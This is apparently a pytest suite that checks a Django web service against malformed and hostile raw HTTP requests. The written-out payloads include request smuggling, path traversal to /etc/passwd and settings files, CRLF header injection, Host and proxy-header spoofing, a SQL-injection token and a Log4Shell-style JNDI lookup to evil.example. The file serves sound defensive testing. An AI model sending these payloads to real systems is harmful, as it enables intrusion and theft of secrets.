"""Bytes that no honest client would send, to a real web process: refused or cut off, never an error of ours.

After each the next request, on a connection of its own, is answered as ever.
"""

import http.client
from collections.abc import Mapping

import pytest

from interactions.sql import run
from tests.applications import API, Application, Desk
from tests.sockets import Answer, exchange
from tests.web import Web

pytestmark = pytest.mark.django_db(transaction=True)

Line = str | bytes
HOST = "Host: localhost"


def request(*lines: Line, method: str = "GET", path: str = API + "parties", host: Line = HOST) -> bytes:
    """Its head; the connection is closed after the answer."""
    all_lines = [f"{method} {path} HTTP/1.1", host, "Connection: close", *lines, "", ""]
    return b"\r\n".join(line if isinstance(line, bytes) else line.encode() for line in all_lines)


def of(who: Application) -> str:
    return f"Authorization: Bearer {who.token}"


def is_clean(answer: Answer) -> bool:
    """Refused, or cut off without a word, or taken for what it can be read as; no error of ours."""
    return answer.is_closed and all(200 <= status < 500 for status in answer.statuses)


def works(site: Web) -> bool:
    connection = http.client.HTTPConnection("127.0.0.1", site.port, timeout=5)
    connection.request("GET", "/healthz")
    return connection.getresponse().status == 200


def ask(site: Web, sent: bytes) -> Answer:
    answer = exchange(site.port, sent)
    assert is_clean(answer), (sent[:200], answer.raw[:500])
    assert works(site), sent[:200]
    return answer


def ask_each(site: Web, requests: Mapping[str, bytes]) -> dict[str, list[int]]:
    """One after the other, for a scene costs more than a request. The statuses that came, by name."""
    return {name: ask(site, sent).statuses for name, sent in requests.items()}


# --- Tokens -------------------------------------------------------------------------------------------


def tokens(token: str) -> dict[str, list[Line]]:
    return {
        "none": [],
        "empty": ["Authorization:"],
        "scheme alone": ["Authorization: Bearer"],
        "spaces": ["Authorization: Bearer \t  "],
        "basic": ["Authorization: Basic YWxpY2U6YWxpY2U="],
        "digest": ['Authorization: Digest username="alice", nonce="x", uri="/", response="y"'],
        "two words": [f"Authorization: Bearer {token} {token}"],
        "a list": [f"Authorization: Bearer {token}, Bearer {token}"],
        "other scheme": [f"Authorization: Token {token}"],
        "no scheme": [f"Authorization: {token}"],
        "quoted": [f'Authorization: Bearer "{token}"'],
        "other case": [f"Authorization: Bearer {token.swapcase()}"],
        "cut short": [f"Authorization: Bearer {token[:-1]}"],
        "long": ["Authorization: Bearer " + "a" * 60_000],
        "too long": ["Authorization: Bearer " + "a" * 100_000],
        "latin-1": [b"Authorization: Bearer \xff\xfe\xe9"],
        "utf-8": ["Authorization: Bearer é中\U0001f600"],
        "NUL": [b"Authorization: Bearer a\0b"],
        "control": [b"Authorization: Bearer a\x0bb\x7f"],
        "jwt": ["Authorization: Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJyb290In0."],
        "SQL": ["Authorization: Bearer ' OR 1=1 --"],
        "two of them": [f"Authorization: Bearer {token}", f"Authorization: Bearer {token}"],
        "the wrong one first": ["Authorization: Bearer x", f"Authorization: Bearer {token}"],
        "the wrong one second": [f"Authorization: Bearer {token}", "Authorization: Basic x"],
        "by an underscore": [f"Authorization_: Bearer {token}", f"HTTP_AUTHORIZATION: Bearer {token}"],
        "as a cookie": [f"Cookie: sessionid={token}; token={token}; Authorization=Bearer {token}"],
        "of the proxy": [f"Proxy-Authorization: Bearer {token}", f"X-Authorization: Bearer {token}"],
        "of a rewriter": ["X-Original-URL: /admin/", "X-Rewrite-URL: /admin/"],
    }


def test_tokens_of_all_shapes(site: Web, alice: Desk) -> None:
    found = ask_each(site, {name: request(*lines) for name, lines in tokens(alice.token).items()})
    assert found.pop("too long") in ([431], [])  # what of it is unread may cut the answer off
    others = {name: statuses for name, statuses in found.items() if statuses != [401]}
    assert others == {"NUL": [400], "control": [400]}  # which is no HTTP


def test_the_right_one(site: Web, alice: Desk) -> None:
    """The twin."""
    assert ask(site, request(of(alice))).statuses == [200]
    assert ask(site, request(f"aUTHORIZATION:   bEARER {alice.token}  ")).statuses == [200]


def test_a_token_in_an_address(site: Web, alice: Desk) -> None:
    queries = [f"{name}={alice.token}" for name in ("token", "access_token", "Authorization")]
    found = ask_each(site, {query: request(path=f"{API}parties?{query}") for query in queries})
    assert set(map(tuple, found.values())) == {(401,)}


def test_each_others_tokens(site: Web, alice: Desk, gateway: Application, warehouse: Application) -> None:
    """An agent's where a service's belongs, and the other way round: the role says no."""
    log = API + "reporting/events"
    refused = {
        "media server": request(of(gateway)),
        "reporting engine": request(of(warehouse)),
        "media server at the log": request(of(gateway), path=log),
        "agent at the log": request(of(alice), path=log),
    }
    assert set(map(tuple, ask_each(site, refused).values())) == {(403,)}
    assert ask(site, request(of(warehouse), path=log)).statuses == [200]


def test_a_token_that_has_ended(site: Web, alice: Desk) -> None:
    alice.log_out().ok(204)
    answer = ask(site, request(of(alice)))
    assert (answer.statuses, answer.bodies[0]["reason"]) == ([401], "ended")


# --- How a request is framed --------------------------------------------------------------------------

SMUGGLED = "GET /smuggled HTTP/1.1\r\nHost: localhost\r\n\r\n"
CHUNKED, LENGTH = "Transfer-Encoding: chunked", "Content-Length: 4"
NONE_AND_MORE = "0\r\n\r\n" + SMUGGLED


def post(*lines: Line, body: str = "username=x") -> bytes:
    return request(*lines, method="POST", path=API + "sessions") + body.encode()


FRAMES: dict[str, bytes] = {
    "two lengths": post("Content-Length: 10", "Content-Length: 11"),
    "the same length twice": post("Content-Length: 10", "Content-Length: 10"),
    "a list of lengths": post("Content-Length: 10, 10"),
    "length and chunks": post(LENGTH, CHUNKED, body=NONE_AND_MORE),
    "chunks and length": post(CHUNKED, LENGTH, body=NONE_AND_MORE),
    "chunks not last": post("Transfer-Encoding: chunked, identity", body=NONE_AND_MORE),
    "chunks twice": post(CHUNKED, CHUNKED, body=NONE_AND_MORE),
    "another coding": post("Transfer-Encoding: gzip", body=SMUGGLED),
    "a coding of no name": post("Transfer-Encoding: xchunked", body=NONE_AND_MORE),
    "a tab before the coding": post("Transfer-Encoding:\tchunked", LENGTH, body=NONE_AND_MORE),
    "a space before the colon": post("Content-Length : 10"),
    "a folded line": post("Transfer-Encoding:\r\n chunked", LENGTH, body=NONE_AND_MORE),
    "an underscore": post("Content_Length: 4", "Transfer_Encoding: chunked", "Content-Length: 10"),
    "a negative length": post("Content-Length: -1"),
    "a length with a sign": post("Content-Length: +10"),
    "a length in hexadecimal": post("Content-Length: 0xa"),
    "a length that is none": post("Content-Length: ten"),
    "a length beyond all": post("Content-Length: 99999999999999999999999"),
    "a chunk beyond all": post(CHUNKED, body="ffffffffffffffffff\r\nx"),
    "a chunk with a sign": post(CHUNKED, body="-1\r\nx\r\n0\r\n\r\n"),
    "a chunk that is none": post(CHUNKED, body="zz\r\nx"),
    "a chunk longer than it says": post(CHUNKED, body="1\r\nxxxxx\r\n0\r\n\r\n"),
    "line feeds alone": request().replace(b"\r\n", b"\n"),
    "carriage returns alone": request().replace(b"\r\n", b"\r") + b"\r\n\r\n",
    "a carriage return in a value": request(b"X-A: b\rX-B: c"),
    "NUL in a name": request(b"X-\0A: b"),
    "no name": request(": nameless"),
    "no colon": request("nonsense"),
    "no host": request(host="X-Nothing: here"),
    "no version": b"GET /\r\n\r\n",
    "version 0.9": b"GET / HTTP/0.9\r\nHost: localhost\r\n\r\n",
    "version 2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "version 3.14": b"GET / HTTP/3.14\r\nHost: localhost\r\n\r\n",
    "no method": b" / HTTP/1.1\r\nHost: localhost\r\n\r\n",
    "a method of our own": request(method="BREW"),
    "a long method": request(method="G" * 70_000),
    "a tunnel": b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n",
    "TLS": b"\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03" + b"\0" * 160,
    "the proxy protocol": b"PROXY TCP4 192.0.2.1 192.0.2.2 56324 443\r\n" + request(),
    "nothing but zeros": b"\0" * 1000,
}
UPGRADES = [
    ["Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Key: x", "Sec-WebSocket-Version: 13"],
    ["Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAAP__", "Connection: Upgrade, HTTP2-Settings"],
]


def test_how_it_is_framed(site: Web) -> None:
    """What can be read in two ways is not read in any: no part of it is taken for a second request."""
    found = ask_each(site, FRAMES)
    assert found.pop("an underscore") == [415]  # which says nothing: the other length is the one
    assert {name: statuses for name, statuses in found.items() if statuses not in ([400], [])} == {}


def test_a_second_request_is_answered(site: Web) -> None:
    """The twin: if one were taken for it, that would be seen."""
    sent = post("Content-Length: 10").replace(b"Connection: close\r\n", b"") + SMUGGLED.encode()
    assert exchange(site.port, sent).statuses == [415, 404]


def test_other_protocols_are_not_spoken(site: Web) -> None:
    """A request to change to one is answered as if it did not ask."""
    for lines in UPGRADES:
        assert ask(site, request(*lines)).statuses == [401]


# --- Addresses ----------------------------------------------------------------------------------------

ADDRESSES = [
    *("http://evil.example/api/v1/parties", "http://evil.example", "HTTP://LOCALHOST/api/v1/parties"),
    *("//evil.example/%2e%2e", "///evil.example", "/\\evil.example", "*", "?", "#", "parties", ""),
    *("/api/v1/../../admin/", "/api/v1/..%2f..%2fadmin/", "/api/v1/%2e%2e/%2e%2e/admin/", "/api/v1//parties"),
    *(
        "/api/v1/./parties",
        "/api/v1/parties/..",
        "/api/v1/parties%00",
        "/api/v1/parties;x=y",
        "/API/V1/parties",
    ),
    *("/api/v1/parties%0d%0aX-Injected:%20yes", "/admin%0d%0aX-Injected:%20yes", "//evil.example%0d%0a/.."),
    *("/api/v1/queues/a%2Fb/pull", "/api/v1/queues/..%2F..%2F/pull", "/api/v1/interactions/1%2e0"),
    *("/static/../config/settings.py", "/static/..%2f..%2fconfig/settings.py", "/static//etc/passwd"),
    *("/static/%2e%2e/%2e%2e/manage.py", "/static/%5c..%5cmanage.py", "/admin/..;/", "/%", "/%zz"),
    *("/%c0%ae%c0%ae/", "/%ff%fe", "/api/v1/" + "a/" * 20_000, "/" + "%41" * 20_000, "/x" * 50_000),
    *("/api/v1/interactions?" + "a=b&" * 10_000, "/api/v1/interactions?" + "%" * 1000),
    *("/admin/login/?next=//evil.example", "/admin/jsi18n/?language=../../etc/passwd"),
    *("/api/schema/?format=../../x", "/api/schema/?lang=../../x", "/api/docs/?url=//evil.example/x.json"),
]


def test_addresses(site: Web, alice: Desk) -> None:
    for address in ADDRESSES:
        answer = ask(site, request(of(alice), path=address))
        head = answer.raw.partition(b"\r\n\r\n")[0].lower()
        assert b"\r\nx-injected" not in head, address
        assert not any(b"location: " + to in head for to in (b"//", b"http", b"/\\")), address
        assert b"root:" not in answer.raw and b"SECRET_KEY" not in answer.raw, address


def test_raw_bytes_in_an_address(site: Web) -> None:
    for path in (b"/\xff\xfe", "/é".encode(), b"/\0", b"/a b", b"/\x7f"):
        ask(site, request().replace((API + "parties").encode(), path))


# --- Hosts, and what only a proxy may say -------------------------------------------------------------

HOSTS: list[Line] = [
    *("evil.example", "localhost@evil.example", "localhost:80@evil.example", "localhost:x", "[::1"),
    *(
        "127.0.0.1.evil.example",
        "localhost, evil.example",
        "localhost\tevil.example",
        "é",
        "a" * 300,
        "",
        " ",
    ),
    *("..localhost", "localhost/../", "localhost#@evil.example", b"local\xffhost", "localhost%00"),
]


def test_hosts(site: Web) -> None:
    """No other name than those the server goes by, wherever it is asked."""
    for host in HOSTS:
        line = b"Host: " + (host if isinstance(host, bytes) else host.encode())
        for path in (API + "parties", "/admin/login/"):
            assert ask(site, request(host=line, path=path)).statuses == [400], (host, path)
    assert ask(site, request("Host: evil.example")).statuses == [400]
    assert ask(site, request("X-Forwarded-Host: evil.example", path="/admin/login/")).statuses == [200]


FORWARDED = [
    *("X-Forwarded-Host: evil.example", "X-Forwarded-Proto: https", "X-Forwarded-Prefix: /evil"),
    *(
        "X-Forwarded-Port: 666",
        "X_Forwarded_Host: evil.example",
        "X-Host: evil.example",
        "X-Real-IP: 192.0.2.1",
    ),
    *("Forwarded: for=192.0.2.1;host=evil.example;proto=https", "X-HTTP-Method-Override: DELETE"),
    *(
        "X-Forwarded-User: root",
        "Remote-User: root",
        "Remote_User: root",
        "Script-Name: /evil",
        "Path-Info: /x",
    ),
]


def test_what_only_a_proxy_may_say(site: Web, alice: Desk) -> None:
    """Without a proxy nobody says so: the answer is the one without the line."""
    for path in (API + "parties", "/admin/", "/admin", "/"):
        plain = ask(site, request(path=path))
        for line in FORWARDED:
            answer = ask(site, request(line, path=path))
            assert answer.statuses == plain.statuses, line
            assert b"evil" not in answer.raw, line
            assert b"location: https:" not in answer.raw, line
    for line in FORWARDED:
        assert ask(site, request(line, of(alice))).statuses == [200], line


# --- Other headers ------------------------------------------------------------------------------------

ODD: list[list[Line]] = [
    ["Range: bytes=0-0,-1,0-18446744073709551615" + ",0-1" * 1000],
    ['If-None-Match: "' + "a" * 5000 + '"', "If-Modified-Since: yesterday", "If-Match: *"],
    ["If-Modified-Since: Thu, 99 Foo 99999 99:99:99 GMT", "If-Unmodified-Since: " + "9" * 1000],
    ["If-Modified-Since: Thu, 01 Jan 99999999999 00:00:00 GMT"],
    ["Accept-Language: " + ",".join(f"x{n};q=0.{n}" for n in range(5000))],
    ["Accept-Language: ../../etc/passwd", "Accept-Charset: x"],
    ["Accept-Encoding: " + "gzip," * 5000, "TE: trailers, deflate"],
    ["Accept: " + "*/*;q=" * 1000, "Accept: text/csv, application/json; indent=999999999999"],
    ["Cookie: " + "; ".join(f"a{n}=b" for n in range(5000))],
    [b"Cookie: =; ;;; sessionid=\x01\"; csrftoken=<script>"],
    [b"Cookie: sessionid=\xff\xfe; csrftoken=\xff"],
    ["Idempotency-Key: " + "k" * 300, "Last-Event-ID: ../../x\t'"],
    ["Connection: keep-alive, close, Host, Authorization", "Keep-Alive: timeout=999999"],
    ["User-Agent: ${jndi:ldap://evil.example/a}", "Referer: javascript:alert(1)", "Origin: null"],
    ["Content-Type: multipart/form-data; boundary=" + "b" * 5000],
    [b"X-\xff: y", "Priority: u=999", "Sec-Fetch-Site: evil"],
    [f"X-{n}: y" for n in range(4000)],
]  # fmt: skip


def test_odd_headers(site: Web, alice: Desk) -> None:
    paths = (
        API + "parties",
        API + "events/stream?after=?",
        "/admin/login/",
        "/static/interactions/admin.css",
    )
    for lines in ODD:
        for path in paths:
            ask(site, request(of(alice), *lines, path=path))


# --- And that it would be seen ------------------------------------------------------------------------


def test_an_error_of_ours_would_be_seen(site: Web, alice: Desk) -> None:
    """The twin."""
    run("ALTER TABLE interactions_session RENAME TO elsewhere")
    try:
        assert not is_clean(exchange(site.port, request(of(alice))))
    finally:
        run("ALTER TABLE elsewhere RENAME TO interactions_session")
    assert is_clean(exchange(site.port, request(of(alice))))
